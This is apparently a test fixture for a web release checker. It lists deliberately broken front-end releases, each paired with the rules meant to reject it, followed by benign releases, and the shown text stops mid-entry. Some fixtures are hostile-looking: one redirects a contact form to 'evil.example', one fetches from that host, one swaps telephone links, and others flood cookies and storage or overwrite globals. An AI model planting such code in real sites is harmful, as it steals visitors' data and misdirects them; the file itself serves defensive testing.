import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import type { RemoteDraft } from './broken-releases-fixture.ts';

export interface BrokenRelease {
  /** The behavior of the release. */
  title: string;
  /** Rules, at least one of which rejects the release. Without rules, the release is published and does not affect other remotes. */
  rules: string[];
  /** Names of further pages below that of the remote. */
  below?: string[];
  /** Text of a note in the verdict. */
  note?: string;
  draft: Partial<RemoteDraft>;
}

const before = (code: string) => (source: string) => `${code}\n${source}`;
const after = (code: string) => (source: string) => `${source}\n${code}`;

/** Adds an effect to the browser build only. */
const browserEffect = (code: string) => ({
  'page.js': (source: string) => source.replace('const site =', `useEffect(() => { ${code} }, []); const site =`),
});

const reactFolder = dirname(createRequire(import.meta.url).resolve('react'));
const react = readFileSync(join(reactFolder, 'cjs/react.production.js'), 'utf8');

export const brokenScripts: BrokenRelease[] = [
  {
    title: 'blocks the browser when its page is left',
    rules: ['hang'],
    draft: { browser: browserEffect('addEventListener("pagehide", () => { for (;;); });') },
  },
  {
    title: 'throws at the top of remoteEntry.js',
    rules: ['exception'],
    draft: { browser: { 'remoteEntry.js': before('throw new Error("top");') } },
  },
  { title: 'has a syntax error in a page chunk', rules: ['exception'], draft: { browser: { 'page.js': after('}}') } } },
  {
    title: 'lacks a chunk that it loads',
    rules: ['request'],
    draft: {
      change: (release) => {
        release.files = release.files.filter(({ path }) => path !== 'page.js');
        for (const chunk of release.chunks) chunk.js = chunk.js.filter((path) => path !== 'page.js');
      },
    },
  },
  { title: 'throws in an effect', rules: ['outage'], draft: { effect: 'throw new Error("effect");' } },
  {
    title: 'throws half a second after hydration',
    rules: ['outage'],
    draft: {
      effect: 'setTimeout(() => setState(1), 500);',
      adds: `state === 1 ? (() => { throw new Error('late'); })() : null`,
    },
  },
  { title: 'has an endless loop in an effect', rules: ['hang'], draft: { effect: 'for (;;);' } },
  {
    title: 'updates its state in an effect without end',
    rules: ['main-thread', 'exception', 'hang'],
    draft: { effect: 'setState((count) => count + 1);', dependencies: '[state]' },
  },
  {
    title: 'has another text in the browser',
    rules: ['exception', 'changed-content'],
    draft: { browser: { 'page.js': (source) => source.replaceAll('access control', 'alarm systems') } },
  },
  {
    title: 'pushes content down after hydration',
    rules: ['layout-shift'],
    draft: {
      effect: `const box = document.createElement('div'); box.style.height = '900px';
        setTimeout(() => document.querySelector('h1').before(box), 200);`,
    },
  },
  {
    title: 'swallows clicks on links',
    rules: ['navigation'],
    draft: {
      effect: `document.addEventListener('click', (event) => { if (event.target.closest('a')) { event.preventDefault(); event.stopImmediatePropagation(); } }, true);`,
    },
  },
  {
    title: 'swallows all clicks',
    rules: ['visibility'],
    draft: {
      effect: `document.addEventListener('click', (event) => { event.preventDefault(); event.stopImmediatePropagation(); }, true);`,
    },
  },
  {
    title: 'allocates memory in a timer without end',
    rules: ['main-thread', 'crash', 'hang'],
    draft: { effect: 'const kept = []; setInterval(() => kept.push(new Uint8Array(8e6).fill(1)), 20);' },
  },
  {
    title: 'fills the cookies of the browser',
    rules: ['cookies'],
    draft: {
      effect: `for (let i = 0; i < 40; i++) document.cookie = 'c' + i + '=' + 'x'.repeat(3900) + '; path=/; max-age=31536000';`,
    },
  },
  {
    title: 'sets a cookie when its form is filled in',
    rules: ['cookies'],
    draft: { effect: `addEventListener('input', () => { document.cookie = 'basket=1; path=/'; });` },
  },
  {
    title: 'fills the storage of the browser',
    rules: ['storage'],
    draft: { effect: `for (let i = 0; i < 40; i++) localStorage.setItem('k' + i, 'x'.repeat(100_000));` },
  },
  {
    title: 'stores large data in a database of the browser',
    rules: ['storage'],
    draft: {
      effect: `const opening = indexedDB.open('large', 1);
        opening.onupgradeneeded = () => opening.result.createObjectStore('files');
        opening.onsuccess = () => opening.result.transaction('files', 'readwrite').objectStore('files').put(new Blob(['x'.repeat(5e6)]), 1);`,
    },
  },
  {
    title: 'replaces window.fetch',
    rules: ['globals'],
    draft: { effect: `window.fetch = () => Promise.reject(new Error('offline'));` },
  },
  {
    title: 'replaces Array.prototype.map in both builds',
    rules: ['globals', 'render', 'output'],
    draft: {
      onLoad: 'Array.prototype.map = () => [];',
      browser: { 'page.js': before('Array.prototype.map = () => [];') },
    },
  },
  {
    title: 'removes the header',
    rules: ['visibility', 'changed-content'],
    draft: { effect: `document.querySelector('header').remove();` },
  },
  {
    title: 'covers the whole page',
    rules: ['visibility'],
    draft: {
      css: '.PREFIX-cover{position:fixed;inset:0;z-index:2147483647}',
      adds: `h('div', { className: 'PREFIX-cover' })`,
    },
  },
  {
    title: 'cannot be used with a screen reader',
    rules: ['accessibility'],
    draft: {
      adds: `h('div', null, h('img', { src: '/favicon.ico' }), h('input', { name: 'unlabelled' }), h('button', { type: 'button' }),
        h('p', { role: 'bogus' }, 'Small print'))`,
    },
  },
  {
    title: 'has a head and no content',
    rules: ['content'],
    draft: { component: `return h('div', null, ...head, h('h1', null, '.'));` },
  },
  {
    title: 'changes the target of a form in an effect',
    rules: ['changed-content'],
    draft: { effect: `document.querySelector('main form').action = 'https://evil.example/';` },
  },
  {
    title: 'bundles a second copy of React',
    rules: ['exception'],
    draft: {
      browser: {
        'page.js': (source) => `const second = {}; { const exports = second; ${react} }
          ${source.replace('const { createElement: h, useEffect, useState } = React;', 'const { createElement: h, useEffect, useState } = second;')}`,
      },
    },
  },
];

/** Throws in an effect under a condition, an expression of the browser. */
const throwsIf = (condition: string) => ({ effect: `if (${condition}) throw new Error('condition');` });
const cover = (css: string) => ({ css, adds: `h('div', { className: 'PREFIX-cover' })` });
const button = (onClick: string, more = '') =>
  `h('button', { type: 'button', ${more} onClick: async () => { ${onClick} } }, 'Show more')`;
const linkTo = (onClick: string) =>
  `path.endsWith('/downtown') ? null : h('a', { href: path + '/downtown', onClick: (event) => { ${onClick} } }, 'Downtown')`;
const contactForm = (body: string, then: string, fields = 'null') => `h('div', null, ...head, h('h1', null, title),
  h('p', null, 'We install access control, cameras and networks in homes and offices. Every site gets a plan, a fixed price and one person who answers the phone.'),
  h('form', { onSubmit: async (event) => {
    event.preventDefault();
    const form = event.currentTarget;
    const response = await fetch('/api/contact', { method: 'POST', body: JSON.stringify(${body}), headers: { 'content-type': 'application/json' } }).catch(() => ({ ok: false }));
    if (!response.ok) return form.append('Please call us.');
    ${then}
  } }, h('label', null, 'Name', h('input', { name: 'name' })), ${fields}, h('button', { type: 'submit' }, 'Send')))`;
const contact = `{ name: form.elements.name.value, email: 'ada@example.com' }`;

/** What breaks under one condition, after one action of the visitor, or with consequences beyond an error. */
export const brokenByCondition: BrokenRelease[] = [
  {
    title: 'throws in Firefox on a phone with a dark color scheme and reduced motion, in German, far in the east',
    rules: ['outage'],
    draft: throwsIf(
      `['(prefers-color-scheme: dark)', '(prefers-reduced-motion: reduce)', '(pointer: coarse)'].every((query) => matchMedia(query).matches) &&
        innerWidth < 500 && navigator.userAgent.includes('Firefox') && navigator.language === 'de-DE' && new Date().getTimezoneOffset() < -600`,
    ),
  },
  {
    title:
      'throws on a phone held sideways with forced colors, without what only Chromium has, in French, far in the west',
    rules: ['outage'],
    draft: throwsIf(
      `matchMedia('(forced-colors: active)').matches && innerHeight < 450 && innerWidth > 600 && !navigator.userAgentData &&
        navigator.language === 'fr-FR' && new Date().getTimezoneOffset() > 500`,
    ),
  },
  {
    title: 'throws at the second visit',
    rules: ['outage', 'exception', 'console-error'],
    draft: {
      effect: `if (localStorage.getItem('visited')) throw new Error('again'); localStorage.setItem('visited', '1');`,
    },
  },
  { title: 'throws where no program controls the browser', rules: ['outage'], draft: throwsIf('!navigator.webdriver') },
  {
    title: 'rejects a promise that nobody handles',
    rules: ['exception'],
    draft: { effect: `Promise.reject(new Error('lost'));` },
  },
  {
    title: 'loads data from another host',
    rules: ['content-security-policy', 'request'],
    draft: { effect: `fetch('https://evil.example/').catch(() => {});` },
  },
  {
    title: 'leaves for another page by itself',
    rules: ['self-navigation'],
    draft: { effect: `setTimeout(() => location.assign('/about'), 500);` },
  },
  {
    title: 'uses the processor all the time',
    rules: ['main-thread', 'hang'],
    draft: {
      effect: `const work = () => { for (const end = performance.now() + 30; performance.now() < end; ); setTimeout(work); }; work();`,
    },
  },
  {
    title: 'covers the header of a tablet',
    rules: ['visibility'],
    draft: cover(
      '@media (min-width:500px) and (max-width:1200px){.PREFIX-cover{position:fixed;inset:0 0 auto;height:200px;z-index:99}}',
    ),
  },
  {
    title: 'covers its own links and buttons',
    rules: ['visibility'],
    draft: cover('.PREFIX-cover{position:absolute;inset:0;height:3000px;z-index:1}'),
  },
  {
    title: 'is wider than the window of a phone',
    rules: ['visibility'],
    draft: cover('.PREFIX-cover{width:900px;height:1px}'),
  },
  {
    title: 'throws when a button is clicked',
    rules: ['exception'],
    draft: { adds: button(`throw new Error('click');`) },
  },
  {
    title: 'lacks a chunk that a button loads',
    rules: ['request'],
    draft: { adds: button(`await import('./gone.js');`) },
  },
  {
    title: 'hangs when a question is opened',
    rules: ['hang'],
    draft: {
      adds: `h('details', { onToggle: () => { for (;;); } }, h('summary', null, 'How long does it take?'), h('p', null, 'A day.'))`,
    },
  },
  {
    title: 'opens a layer that cannot be closed',
    rules: ['visibility'],
    draft: {
      css: '.PREFIX-cover{position:fixed;inset:0;z-index:99}',
      adds: `h('div', null, ${button('setState(1);')}, state === 1 && h('div', { className: 'PREFIX-cover' }))`,
    },
  },
  {
    title: 'asks search engines to leave',
    rules: ['changed-content'],
    draft: {
      effect: `const robots = document.createElement('meta'); robots.name = 'robots'; robots.content = 'noindex'; document.head.append(robots);`,
    },
  },
  {
    title: 'changes telephone numbers of the site',
    rules: ['changed-content'],
    draft: {
      effect: `for (const link of document.querySelectorAll('a[href^="tel:"]')) link.href = 'tel:+19005550100';`,
    },
  },
  {
    title: 'removes its text in an effect',
    rules: ['changed-content'],
    draft: { effect: `document.querySelector('main p').textContent = '';` },
  },
  {
    title: 'sends a form without a field that the API requires',
    rules: ['form'],
    draft: {
      component: `return ${contactForm(`{ name: 'Ada', mail: 'ada@example.com' }`, `form.append('Thank you.');`)};`,
    },
  },
  {
    title: 'sends an optional field under a name that the API does not have',
    rules: ['form'],
    draft: {
      component: `return ${contactForm(
        `{ ...${contact}, firm: form.elements.company.value }`,
        `form.append('Thank you.');`,
        `h('label', null, 'Company', h('input', { name: 'company' }))`,
      )};`,
    },
  },
  {
    title: 'has a second form that sends nothing',
    rules: ['form'],
    draft: {
      adds: `h('form', { onSubmit: (event) => event.preventDefault() }, h('label', null, 'Phone', h('input', { name: 'phone', type: 'tel' })), h('button', { type: 'submit' }, 'Call me'))`,
    },
  },
  {
    title: 'does not tell visitors that the form was sent',
    rules: ['form'],
    draft: { component: `return ${contactForm(contact, '')};` },
  },
  {
    title: 'throws when the form was sent',
    rules: ['exception'],
    draft: { component: `return ${contactForm(contact, `form.append('Thank you.'); throw new Error('receipt');`)};` },
  },
  {
    title: 'throws when its page is left',
    rules: ['exception'],
    draft: { effect: `addEventListener('pagehide', () => { throw new Error('left'); });` },
  },
  {
    title: 'throws when a link to another site is clicked',
    rules: ['exception'],
    draft: {
      adds: `h('a', { href: 'https://partner.example/', onClick: () => { throw new Error('count'); } }, 'Our partner')`,
    },
  },
  {
    title: 'throws when visitors type into a filter',
    rules: ['exception'],
    draft: { adds: `h('label', null, 'Filter', h('input', { onInput: () => { throw new Error('filter'); } }))` },
  },
  {
    title: 'throws when it is printed',
    rules: ['exception'],
    draft: { effect: `addEventListener('beforeprint', () => { throw new Error('print'); });` },
  },
  {
    title: 'throws when the color scheme changes',
    rules: ['exception'],
    draft: {
      effect: `matchMedia('(prefers-color-scheme: dark)').addEventListener('change', () => { throw new Error('scheme'); });`,
    },
  },
  {
    title: 'throws on the next page',
    rules: ['exception'],
    below: ['downtown'],
    draft: {
      effect: `if (!path.endsWith('/downtown')) setInterval(() => document.querySelector('[data-clock]').textContent, 300);`,
      adds: `path.endsWith('/downtown') ? null : h('p', null, h('time', { 'data-clock': '' }, 'Today'), h(Link, { to: path + '/downtown' }, 'Downtown'))`,
      browser: {
        // The next page, which has the same template, is open first.
        'page.js': (source) =>
          `if (!location.pathname.endsWith('/downtown')) for (const end = performance.now() + 1000; performance.now() < end; );\n${source}`,
      },
    },
  },
  {
    title: 'has a link to another page that does nothing',
    rules: ['navigation'],
    below: ['downtown'],
    draft: { adds: linkTo('event.preventDefault();') },
  },
  {
    title: 'cancels the wheel',
    rules: ['listener'],
    draft: { effect: `addEventListener('wheel', (event) => event.preventDefault(), { passive: false });` },
  },
  {
    title: 'adds itself to the history again',
    rules: ['self-navigation'],
    draft: { effect: `history.pushState(history.state, '', location.href);` },
  },
  {
    title: 'takes the focus again and again',
    rules: ['accessibility'],
    draft: {
      effect: `const timer = setInterval(() => document.querySelector('main input').focus(), 300); return () => clearInterval(timer);`,
    },
  },
  {
    title: 'scrolls back to its top',
    rules: ['visibility'],
    draft: {
      css: '.PREFIX-tall{height:3000px}',
      effect: `addEventListener('scroll', () => scrollTo(0, 0));`,
      adds: `h('div', { className: 'PREFIX-tall' })`,
    },
  },
  {
    title: 'covers its page when visitors scroll',
    rules: ['visibility'],
    draft: {
      css: '.PREFIX-tall{height:3000px} .PREFIX-cover{position:fixed;inset:0;z-index:99}',
      effect: `addEventListener('scroll', () => scrollY > 300 && setState(1));`,
      adds: `h('div', { className: 'PREFIX-tall' }, state === 1 && h('div', { className: 'PREFIX-cover' }))`,
    },
  },
  {
    title: 'cannot be scrolled after a click',
    rules: ['visibility'],
    draft: {
      css: '.PREFIX-tall{height:3000px}',
      adds: `h('div', { className: 'PREFIX-tall' }, ${button("document.body.style.overflow = 'hidden';")})`,
    },
  },
  {
    title: 'changes the language of its document',
    rules: ['changed-content'],
    draft: { effect: `document.documentElement.lang = 'es';` },
  },
  {
    title: 'loads a frame of another host after a click',
    rules: ['content-security-policy'],
    draft: {
      adds: `h('div', null, ${button('setState(1);')}, state === 1 && h('iframe', { src: 'https://maps.example/', title: 'Map' }))`,
    },
  },
  {
    title: 'has an image without a size above its text',
    rules: ['layout-shift'],
    draft: {
      css: '.PREFIX-wide{width:100%}',
      component: `return h('div', null, ...head, h('h1', null, title), h('img', { className: 'PREFIX-wide', src: '/favicon.ico', alt: 'A door' }),
        h('p', null, 'We install access control, cameras and networks in homes and offices. Every site gets a plan, a fixed price and one person who answers the phone.'));`,
    },
  },
  {
    title: 'sends requests without end',
    rules: ['request'],
    draft: {
      effect: `const timer = setInterval(() => fetch('/api/session'), 50); return () => clearInterval(timer);`,
    },
  },
  {
    title: 'closes the menu of the header',
    rules: ['visibility'],
    draft: {
      effect: `document.querySelector('header [popover]').addEventListener('toggle', ({ target }) => target.hidePopover());`,
    },
  },
  {
    title: 'is black on black in the dark color scheme',
    rules: ['accessibility'],
    draft: {
      css: '@media (prefers-color-scheme:dark){.PREFIX-dark{background:#000;color:#000}}',
      adds: `h('p', { className: 'PREFIX-dark' }, 'Call us on weekdays')`,
    },
  },
  {
    title: 'refuses addresses with a plus',
    rules: ['form'],
    draft: {
      adds: `h('form', { onSubmit: (event) => event.preventDefault() }, h('label', null, 'Email', h('input', { name: 'email', type: 'email', pattern: '[a-z]+@[a-z.]+' })), h('button', { type: 'submit' }, 'Subscribe'))`,
    },
  },
  {
    title: 'cannot send its form again after an error',
    rules: ['form'],
    draft: {
      component: `return ${contactForm(contact, `form.append('Thank you.');`).replace('event.preventDefault();', `event.preventDefault(); event.currentTarget.querySelector('button').disabled = true;`)};`,
    },
  },
  {
    title: 'empties its form after an error',
    rules: ['form'],
    draft: {
      component: `return ${contactForm(contact, `form.append('Thank you.');`).replace(`form.append('Please call us.')`, `(form.append('Please call us.'), form.reset())`)};`,
    },
  },
  {
    title: 'says nothing about its form without a network',
    rules: ['form'],
    draft: {
      component: `return ${contactForm(contact, `form.append('Thank you.');`)
        .replace('.catch(() => ({ ok: false }))', `.catch(() => null)`)
        .replace(
          'if (!response.ok)',
          `form.querySelector('output')?.remove(); if (!response) return; if (!response.ok)`,
        )
        .replace(
          `form.append('Please call us.')`,
          `form.append(Object.assign(document.createElement('output'), { value: 'Please call us.' }))`,
        )};`,
    },
  },
  { title: 'shows a value that is missing', rules: ['content'], draft: { adds: `h('p', null, 'Call ' + site.fax)` } },
  {
    title: 'sends its form twice',
    rules: ['form'],
    draft: {
      component: `return ${contactForm(`(void fetch('/api/contact', { method: 'POST', body: JSON.stringify(${contact}), headers: { 'content-type': 'application/json' } }), ${contact})`, `form.append('Thank you.');`)};`,
    },
  },
  {
    title: 'does not send what visitors choose',
    rules: ['form'],
    draft: {
      component: `return ${contactForm(
        `{ ...${contact}, service: 'Cameras' }`,
        `form.append('Thank you.');`,
        `h('label', null, 'Service', h('select', { name: 'service' }, ...['Cameras', 'Doors', 'Networks'].map((name) => h('option', { key: name }, name))))`,
      )};`,
    },
  },
  {
    title: 'does not send a field',
    rules: ['form'],
    draft: {
      component: `return ${contactForm(contact, `form.append('Thank you.');`, `h('label', null, 'Company', h('input', { name: 'company' }))`)};`,
    },
  },
  {
    title: 'thanks for a form that the API did not accept',
    rules: ['form'],
    draft: {
      component: `return ${contactForm(contact, `form.append('Thank you.');`).replace(/if \(!response.ok\)[^;]*;/, '')};`,
    },
  },
];

/** Text that changes with the clock, by itself or by an action: what visitors lose is little, and nothing breaks. */
const goodReleases: Omit<BrokenRelease, 'rules'>[] = [
  {
    title: 'says after hydration whether the office is open',
    draft: { effect: 'setState(1);', adds: `h('p', null, state === 1 ? 'Open now' : 'Open on weekdays')` },
  },
  {
    title: 'counts down',
    draft: {
      effect:
        'const timer = setInterval(() => setState((count) => count + 1), 200); return () => clearInterval(timer);',
      adds: `h('p', null, 'Offer ends in ', 9999 - state, ' seconds')`,
    },
  },
  {
    title: 'shows one slide of a carousel after another',
    draft: {
      effect:
        'const timer = setInterval(() => setState((count) => (count + 1) % 3), 400); return () => clearInterval(timer);',
      adds: `h('blockquote', null, [
        'They wired two hundred doors within nine days and left every hallway as clean as before.',
        'Cameras in four warehouses now show one picture, and our insurer lowered the premium in the same month.',
        'Guests open the gate with their phones, and nobody has printed a key card since spring of last year.'][state], h('a', { href: path + '#slide-' + state, id: 'slide-' + state }, 'Read on'))`,
    },
  },
  {
    title: 'closes something with the Escape key',
    draft: {
      effect: `const close = (event) => event.key === 'Escape' && setState(0); document.addEventListener('keydown', close); return () => document.removeEventListener('keydown', close);`,
    },
  },
  {
    title: 'has a search form',
    draft: {
      adds: `h('form', { method: 'get', role: 'search' }, h('label', null, 'Search', h('input', { name: 'q' })), h('button', { type: 'submit' }, 'Find'))`,
    },
  },
  {
    title: 'shows the date in the language and time zone of the visitor',
    draft: { effect: 'setState(1);', adds: `h('p', null, state === 1 ? new Date().toLocaleString() : 'Today')` },
  },
  {
    title: 'remembers the last visit',
    draft: {
      effect: `localStorage.setItem('last-visit', String(Date.now())); sessionStorage.setItem('draft', 'x'.repeat(2000));`,
    },
  },
  {
    title: 'has questions',
    draft: {
      adds: `h('div', null, ...[1, 2, 3].map((number) => h('details', { key: number }, h('summary', null, 'Question ' + number), h('p', null, 'An answer.'))))`,
    },
  },
  {
    title: 'opens a dialog',
    draft: {
      adds: `h('div', null, h('button', { type: 'button', onClick: () => document.querySelector('#dialog').showModal() }, 'Details'), h('dialog', { id: 'dialog', 'aria-label': 'Details' }, h('p', null, 'Fixed price.'), h('form', { method: 'dialog' }, h('button', null, 'Close'))))`,
    },
  },
  {
    title: 'loads a chunk after a click',
    draft: {
      adds: button(`setState((await import('./more.js')).more);`),
      files: { 'more.js': 'export const more = 2;' },
      change: ({ chunks }) => void chunks.push({ name: 'more', js: ['more.js'], css: [], shared: [] }),
    },
  },
  {
    title: 'has tabs',
    draft: {
      adds: `h('div', null, h('div', { role: 'tablist', 'aria-label': 'Plans' }, ...[0, 1].map((tab) => h('button', { key: tab, type: 'button', role: 'tab', 'aria-selected': state === tab, onClick: () => setState(tab) }, 'Plan ' + tab))), h('div', { role: 'tabpanel', 'aria-label': 'Plan' }, 'Plan ' + state))`,
    },
  },
  {
    title: 'has links to call and to write',
    draft: {
      adds: `h('p', null, h('a', { href: 'tel:+15125550142' }, 'Call'), ' or ', h('a', { href: 'mailto:info@lumenward.example' }, 'write'))`,
    },
  },
  {
    title: 'has a wide table that scrolls',
    draft: {
      css: '.PREFIX-scroll{overflow-x:auto} .PREFIX-wide{width:2000px}',
      adds: `h('div', { className: 'PREFIX-scroll', tabIndex: 0, role: 'region', 'aria-label': 'Prices' }, h('table', { className: 'PREFIX-wide' }, h('tbody', null, ...Array.from({ length: 100 }, (_, row) => h('tr', { key: row }, h('td', null, 'Door ' + row))))))`,
    },
  },
  {
    title: 'saves its state before it is left',
    draft: {
      effect: `const save = () => sessionStorage.setItem('left', '1'); addEventListener('pagehide', save); return () => removeEventListener('pagehide', save);`,
    },
  },
  {
    title: 'writes its state to the address',
    draft: { effect: `history.replaceState(history.state, '', path + '?view=list');` },
  },
  {
    title: 'announces changes',
    draft: {
      effect: `setTimeout(() => setState(1), 400);`,
      adds: `h('p', { role: 'status' }, state === 1 ? 'Two appointments are free this week.' : '')`,
    },
  },
  {
    title: 'has an endless animation of its own',
    draft: {
      css: '@keyframes PREFIX-turn{to{transform:rotate(1turn)}} .PREFIX-turn{display:inline-block;animation:PREFIX-turn 2s linear infinite}',
      adds: `h('span', { className: 'PREFIX-turn' }, '*')`,
    },
  },
  {
    title: 'explains terms that are left undefined',
    draft: { adds: `h('p', null, 'Terms left undefined have the meaning of the law.')` },
  },
  {
    title: 'computes a price in a form',
    draft: {
      adds: `h('form', { onSubmit: (event) => { event.preventDefault(); setState(900 * event.currentTarget.elements.doors.value); } }, h('label', null, 'Doors', h('input', { name: 'doors', type: 'number', required: true })), h('button', null, 'Estimate'), h('output', null, state ? 'About ' + state + ' dollars' : ''))`,
    },
  },
  {
    title: 'filters a list in a form',
    draft: {
      adds: `h('div', null, h('form', { onSubmit: (event) => { event.preventDefault(); setState(1); } }, h('label', null, 'Name', h('input', { name: 'city' })), h('button', null, 'Show')),
        h('p', { role: 'status' }, state === 1 ? 'No city has this name.' : ''), h('ul', null, ...['Austin', 'Dallas'].map((city) => h('li', { key: city }, city))))`,
    },
  },
  {
    title: 'is a short page of thanks',
    draft: {
      component: `return h('div', null, ...head, h('h1', null, title), h('p', null, 'Thank you. We will call you on the next weekday.'), h('img', { src: '/favicon.ico', width: 60, height: 60, alt: 'A door reader' }))`,
    },
  },
  {
    title: 'has a video of its own',
    draft: {
      effect: `document.querySelector('main video').src = new URL('./tour.webm', import.meta.url);`,
      adds: `h('video', { controls: true, width: 180, height: 180 }, h('track', { kind: 'captions' }))`,
      files: { 'tour.webm': 'no frames' },
    },
  },
  {
    title: 'has colors of its own in the dark',
    draft: {
      css: '@media (prefers-color-scheme:dark){.PREFIX-dark{background:#111;color:#eee}}',
      adds: `h('p', { className: 'PREFIX-dark' }, 'Call us on weekdays')`,
    },
  },
  {
    title: 'names a product with a dot',
    draft: {
      adds: `h('p', null, 'We install Node.js panels and write to ', h('a', { href: 'https://docs.lumenward.example/' }, 'docs.lumenward.example'))`,
    },
  },
  {
    title: 'has structured data',
    draft: {
      adds: `h('script', { type: 'application/ld+json' }, JSON.stringify({ '@context': 'https://schema.org', '@type': 'Service', name: 'Cameras' }))`,
    },
  },
  {
    title: 'has a chat window of its own',
    draft: {
      css: '.PREFIX-chat{position:fixed;inset:auto 1rem 1rem auto;background:#fff;padding:.5rem;z-index:10}',
      adds: `h('aside', { className: 'PREFIX-chat', 'aria-label': 'Chat' }, h('button', { type: 'button', 'aria-expanded': state === 1, onClick: () => setState(1 - state) }, 'Chat'),
        state === 1 && h('div', null, h('label', null, 'Message', h('input', { name: 'message' })), h('button', { type: 'button' }, 'Send message')))`,
    },
  },
  {
    title: 'loads images when they are scrolled to',
    draft: {
      css: '.PREFIX-far{margin-top:2000px;display:block}',
      adds: `h('img', { className: 'PREFIX-far', src: '/favicon.ico', loading: 'lazy', width: 200, height: 200, alt: 'A door reader' })`,
    },
  },
  {
    title: 'fades in what is scrolled to',
    draft: {
      css: '.PREFIX-fade{opacity:0;transition:opacity .3s} .PREFIX-seen{opacity:1}',
      effect: `const observer = new IntersectionObserver(([entry]) => entry.isIntersecting && entry.target.classList.add('PREFIX-seen')); for (const element of document.querySelectorAll('.PREFIX-fade')) observer.observe(element); return () => observer.disconnect();`,
      adds: `h('div', null, ...[1, 2, 3].map((step) => h('section', { key: step, className: 'PREFIX-fade' }, h('h2', null, 'Step ' + step), h('p', null, 'We visit the site.'))))`,
    },
  },
  {
    title: 'has a sticky list of its sections',
    draft: {
      css: '.PREFIX-list{position:sticky;top:0;background:#fff;display:flex;gap:1rem}',
      adds: `h('div', null, h('ul', { className: 'PREFIX-list' }, ...['plan', 'price'].map((id) => h('li', { key: id }, h('a', { href: '#' + id }, 'The ' + id)))), ...['plan', 'price'].map((id) => h('section', { key: id, id }, h('h2', null, 'Our ' + id), h('p', null, 'Fixed.'))))`,
    },
  },
  {
    title: 'shows something else in a narrow window',
    draft: {
      effect: `const wide = matchMedia('(min-width: 800px)'); const change = () => setState(wide.matches ? 1 : 2); change(); wide.addEventListener('change', change); addEventListener('resize', change); return () => { wide.removeEventListener('change', change); removeEventListener('resize', change); };`,
      adds: `h('p', null, state === 2 ? 'Swipe to compare' : 'Compare')`,
    },
  },
  {
    title: 'has a form with a field that depends on another one',
    draft: {
      component: `return ${contactForm(
        `{ ...${contact}, ...Object.fromEntries(new FormData(form)) }`,
        `form.append('Thank you.');`,
        `h('div', null, h('label', null, 'Service', h('select', { name: 'service', onChange: (event) => setState(event.target.selectedIndex) }, h('option', null, 'Cameras'), h('option', null, 'Something else'))),
          state === 1 && h('label', null, 'What is it?', h('textarea', { name: 'message', required: true })))`,
      )};`,
    },
  },
  {
    title: 'shows more projects at the end of its list',
    draft: {
      effect: `const observer = new IntersectionObserver(([entry]) => entry.isIntersecting && setState((count) => Math.min(count + 1, 5))); observer.observe(document.querySelector('#list-end')); return () => observer.disconnect();`,
      adds: `h('div', null, h('ul', null, ...Array.from({ length: 80 + 20 * state }, (_, i) => h('li', { key: i }, 'Project ' + i))), h('p', { id: 'list-end' }, 'More on request'))`,
    },
  },
  {
    title: 'computes something in a worker',
    draft: {
      effect: `const worker = new Worker(new URL('./worker.js', import.meta.url)); worker.onmessage = ({ data }) => setState(data); worker.postMessage(21); return () => worker.terminate();`,
      adds: `h('p', null, state === 42 ? 'Computed' : 'Not computed')`,
      files: { 'worker.js': 'onmessage = ({ data }) => postMessage(2 * data);' },
      change: ({ chunks }) => void chunks.push({ name: 'worker', js: ['worker.js'], css: [], shared: [] }),
    },
  },
  {
    title: 'keeps a few records in a database of the browser',
    draft: {
      effect: `const opening = indexedDB.open('PREFIX-cache', 1);
        opening.onupgradeneeded = () => opening.result.createObjectStore('records');
        opening.onsuccess = () => { const write = opening.result.transaction('records', 'readwrite'); write.objectStore('records').put({ name: 'Cameras' }, 1); write.oncomplete = () => opening.result.close(); };`,
    },
  },
  {
    title: 'has a dialog that keeps the focus',
    draft: {
      css: '.PREFIX-dialog{position:fixed;inset:20%;background:#fff;z-index:20}',
      adds: `h('div', null, h('button', { type: 'button', onClick: () => setState(1) }, 'Compare plans'),
        state === 1 && h('div', { className: 'PREFIX-dialog', role: 'dialog', 'aria-modal': true, 'aria-label': 'Plans', tabIndex: -1, ref: (element) => element?.focus(),
          onKeyDown: (event) => { if (event.key === 'Escape') setState(0); if (event.key === 'Tab') event.preventDefault(); } }, h('button', { type: 'button', onClick: () => setState(0) }, 'Close')))`,
    },
  },
  {
    title: 'loads a video when its picture is clicked',
    draft: {
      adds: `state === 1 ? h('video', { controls: true, preload: 'none', width: 180, height: 180 }, h('track', { kind: 'captions' })) : h('button', { type: 'button', onClick: () => setState(1) }, h('img', { src: '/favicon.ico', width: 180, height: 180, alt: 'Play the tour' }))`,
    },
  },
  {
    title: 'begins with a link that skips a list',
    draft: {
      css: '.PREFIX-skip{position:absolute;left:-9999px} .PREFIX-skip:focus{left:0}',
      component: `return h('div', null, ...head, h('a', { className: 'PREFIX-skip', href: '#prices' }, 'Skip to prices'), h('h1', null, title),
        h('p', null, 'We install access control, cameras and networks in homes and offices. Every site gets a plan, a fixed price and one person who answers the phone, from the first visit to the last invoice.'),
        h('p', { id: 'prices', tabIndex: -1 }, 'From 900 dollars.'))`,
    },
  },
  {
    title: 'sorts a table',
    draft: {
      adds: `h('table', null, h('thead', null, h('tr', null, h('th', { 'aria-sort': state ? 'descending' : 'ascending' }, h('button', { type: 'button', onClick: () => setState(1 - state) }, 'Doors')))),
        h('tbody', null, ...[4, 8, 12].map((_, row, rows) => rows[state ? 2 - row : row]).map((doors) => h('tr', { key: doors }, h('td', null, doors)))))`,
    },
  },
  {
    title: 'shows a notice at the bottom until it is closed',
    draft: {
      css: '.PREFIX-notice{position:fixed;inset:auto 0 0;background:#fff;z-index:10}',
      effect: `if (!sessionStorage.getItem('PREFIX-notice')) setState(1);`,
      adds: `state === 1 && h('div', { className: 'PREFIX-notice', role: 'status' }, 'Closed on Monday. ', h('button', { type: 'button', onClick: () => { sessionStorage.setItem('PREFIX-notice', 'seen'); setState(0); } }, 'Close'))`,
    },
  },
  {
    title: 'has a link back to the top after scrolling',
    draft: {
      css: '.PREFIX-top{position:fixed;right:1rem;bottom:1rem}',
      effect: `const scrolled = () => setState(scrollY > 400 ? 1 : 0); addEventListener('scroll', scrolled, { passive: true }); return () => removeEventListener('scroll', scrolled);`,
      adds: `state === 1 && h('button', { className: 'PREFIX-top', type: 'button', onClick: () => scrollTo({ top: 0, behavior: 'smooth' }) }, 'To the top')`,
    },
  },
  {
    title: 'computes a price from a slider',
    draft: {
